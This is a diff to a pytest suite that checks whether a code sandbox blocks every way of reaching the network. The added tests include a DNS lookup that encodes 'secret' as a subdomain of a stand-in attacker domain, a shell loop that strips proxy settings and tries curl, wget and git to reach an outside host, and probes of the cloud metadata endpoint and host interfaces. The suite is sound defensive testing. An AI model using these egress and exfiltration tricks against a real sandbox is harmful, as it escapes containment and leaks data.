@@ -2,6 +2,7 @@
 
 import socket
 
+import psutil
 import pytest
 
 from sandbox.contract import ExecRequest, SandboxProvider
@@ -11,6 +12,8 @@ _ATTEMPTS = {
     "tcp": "s = socket.socket(); s.settimeout(3); s.connect(('192.0.2.1', 80))",
     "udp": "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))",
     "ipv6": "s = socket.socket(socket.AF_INET6); s.settimeout(3); s.connect(('2001:db8::1', 80))",
+    "dns": "socket.getaddrinfo(b'c2VjcmV0.evil.test', 80)",
+    "dns-datagram": "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('169.254.169.253', 53))",
     "metadata": "s = socket.socket(); s.settimeout(3); s.connect(('169.254.169.254', 80))",
     "bridge": "s = socket.socket(); s.settimeout(3); s.connect(('172.17.0.1', 22))",
     "multicast": "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('224.0.0.1', 5353))",
@@ -33,6 +36,40 @@ async def test_every_way_out_fails(box: Box, kind: str) -> None:
     result = await box.python(code)
     assert result.stdout.startswith("refused"), result
     assert result.stdout.split()[1] != "None", "a timeout is not a refusal: something let the packet go"
+
+
+async def test_going_round_the_proxy_leads_nowhere(box: Box) -> None:
+    ear = await box.provider.ear(box.sandbox_id)
+    with ear:
+        result = await box.run(
+            "unset HTTPS_PROXY HTTP_PROXY https_proxy http_proxy ALL_PROXY; export NO_PROXY='*' no_proxy='*';"
+            " for get in 'curl -sS --noproxy *' wget 'busybox wget' 'git ls-remote'; do"
+            " command -v ${get%% *} >/dev/null || continue; $get http://192.0.2.1/ && echo reached; echo tried; done",
+            env={"HTTPS_PROXY": "http://127.0.0.1:3128", "HTTP_PROXY": "http://127.0.0.1:3128"},
+        )
+        ear.setblocking(False)
+        with pytest.raises(BlockingIOError):
+            ear.accept()
+    assert set(result.stdout.split()) == {"tried"}, result
+
+
+async def test_a_service_on_every_address_of_the_host_is_reached_on_none(box: Box) -> None:
+    found = [each for cards in psutil.net_if_addrs().values() for each in cards]
+    addresses = [each.address for each in found if each.family == socket.AF_INET]
+    assert "127.0.0.1" in addresses
+    with socket.create_server(("0.0.0.0", 0)) as server:
+        server.setblocking(False)
+        result = await box.python(
+            "import socket\n"
+            f"for address in {addresses!r}:\n"
+            "    s = socket.socket(); s.settimeout(3)\n"
+            f"    print(s.connect_ex((address, {server.getsockname()[1]})))"
+        )
+        with pytest.raises(BlockingIOError):
+            server.accept()
+    answers = [int(line) for line in result.stdout.split()]
+    assert len(answers) == len(addresses)
+    assert 0 not in answers
 
 
 async def test_a_service_of_the_host_is_not_on_the_sandboxs_loopback(box: Box) -> None:
